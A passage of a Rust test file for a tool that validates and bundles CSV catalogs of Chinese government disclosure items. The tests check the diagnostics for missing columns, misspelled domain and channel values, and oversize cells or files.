            error(l, Some(1), Some("一级事项"), "缺少列：一级事项。表头（第1行）中找到的列：领域、二级事项、我要看；第2行没有读取"),
        ],
    );
    assert_eq!(rows_of(root, &out, c), (3, 0, 3));
    assert_eq!(rows_of(root, &out, c2), (2, 0, 2));
    assert_eq!(rows_of(root, &out, e), (1, 0, 1));
    assert_eq!(rows_of(root, &out, l), (1, 0, 1));
}

#[test]
fn unknown_domains_channels_and_ticks_quote_the_text_and_suggest_the_closest_known_value() {
    let (tmp, out) = build_case("unknown_values");
    let root = tmp.path();
    let (c, e, l) = (CATALOG, "entries/430121.csv", "links/links.csv");
    let doc = "docs/source-format.md「已知取值」";
    assert_diagnostics(
        root,
        &out.diagnostics,
        &[
            error(c, Some(5), Some("领域"), "领域「社会求助」不是26个领域之一（2019年或2017年名称均可）。是不是「社会救助」？已知取值见 docs/source-format.md「已知取值」一节"),
            warning(c, Some(6), Some("公开渠道和载体"), "未识别的公开渠道「政府网」，已按原文保留（浏览器不能按标准渠道筛选它）。是不是「政府网站」？"),
            warning(c, Some(6), Some("主动"), "无法识别的勾选标记「yse」，已按未勾选处理"),
            error(e, Some(3), Some("领域"), "领域「户籍管里」不是26个领域之一（2019年或2017年名称均可）。是不是「户籍管理」？"),
            error(l, Some(3), Some("领域"), "领域「交通运输」不是26个领域之一（2019年或2017年名称均可）。已知取值见"),
        ],
    );
    assert!(out.diagnostics.iter().filter(|d| d.row.is_some()).all(|d| d.message.contains(doc)), "{:#?}", out.diagnostics);
    let tick = out.diagnostics.iter().find(|d| d.column.as_deref() == Some("主动")).unwrap();
    assert!(tick.message.contains("是不是「yes」"), "{}", tick.message);
    assert_eq!(rows_of(root, &out, c), (5, 4, 1));
    assert_eq!(rows_of(root, &out, e), (2, 1, 1));
    assert_eq!(rows_of(root, &out, l), (2, 1, 1));
}

#[test]
fn an_oversize_cell_in_places_entries_or_links_refuses_its_row_and_later_rows_are_read() {
    let big = "长".repeat(70 * 1024 / 3 + 1);
    // (file, rows appended: the oversize one, then a good one; the oversize row and column; rows, read, refused)
    let cases = [
        ("places.csv", format!("430121003,{big},430121\n430121009,黄花镇,430121\n"), 6, "名称", (6, 5, 1)),
        (
            "entries/430121.csv",
            format!("430121,社会救助,最低生活保障,政策,,{big},2026-10-21,,\n430121,社会救助,最低生活保障,政策,,长沙县低保政策解读,2026-10-22,,\n"),
            4,
            "标题",
            (4, 3, 1),
        ),
        (
            "links/links.csv",
            format!("社会救助,最低生活保障,政策,,https://www.csx.gov.cn/{big},,\n社会救助,最低生活保障,政策,,https://www.csx.gov.cn/example/dibao/policy.html,,\n"),
            3,
            "我要看",
            (3, 2, 1),
        ),
    ];
    for (file, rows, bad_row, column, counts) in cases {
        // A folder of its own (other tests change source_for("base") in parallel).
        let tmp = scratch(&format!("oversize-cell-{}", file.replace('/', "-")));
        let root = tmp.path();
        copy_tree(&fixtures().join("base"), root);
        let path = root.join(file);
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push_str(&rows);
        std::fs::write(&path, text).unwrap();
        let out = build_source(root);
        let e: Vec<_> = out.diagnostics.iter().filter(|d| d.is_error()).collect();
        assert_eq!(e.len(), 1, "{file}: {:#?}", out.diagnostics);
        assert_eq!((e[0].file.as_path(), e[0].row, e[0].column.as_deref()), (path.as_path(), Some(bad_row), Some(column)), "{file}");
        assert!(e[0].message.contains("上限 64 KB") && e[0].message.contains("limit is 64 KB"), "{}", e[0].message);
        assert!(e[0].message.len() < 1000, "{file}: the cell is not quoted back");
        assert_eq!(rows_of(root, &out, file), counts, "{file}");
        assert!(out.bundle.is_none(), "{file}");
    }
}

#[test]
fn an_oversize_places_entries_or_links_file_is_refused_before_it_is_read() {
    for file in ["places.csv", "entries/430121.csv", "links/links.csv"] {
        let tmp = source_for("base");
        let root = tmp.path();
        let path = root.join(file);
        // 101 MB, sparse: refused on its size alone, so the test costs no memory.
        let f = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
        f.set_len(gongkai_bundle::read::MAX_FILE_BYTES + 1_000_000).unwrap();
        drop(f);
        let started = Instant::now();
        let out = build_source(root);
        assert!(started.elapsed() < Duration::from_secs(10), "{file}");
        let e: Vec<_> = out.diagnostics.iter().filter(|d| d.is_error() && d.file == path).collect();
        assert_eq!(e.len(), 1, "{file}: {:#?}", out.diagnostics);
        assert!(e[0].message.contains("文件过大（100 MB 以上，上限 100 MB）"), "{}", e[0].message);
        assert!(out.bundle.is_none(), "{file}");
    }
}
